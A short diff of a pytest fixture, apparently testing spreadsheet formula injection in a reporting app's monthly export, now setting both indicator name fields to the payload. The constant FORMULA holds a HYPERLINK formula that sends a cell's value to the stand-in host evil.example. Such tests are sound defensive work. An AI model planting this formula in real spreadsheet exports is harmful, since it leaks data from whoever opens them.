@@ -19,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Ver")'
 @pytest.fixture
 def march_with_a_formula(ref):
     people = dataset.build()
-    Indicator.objects.filter(code="PAO-ANY").update(name=FORMULA)
+    Indicator.objects.filter(code="PAO-ANY").update(name=FORMULA, name_en=FORMULA)
     monthly_figures_compute(month=date(2025, 3, 1))
     return people
 
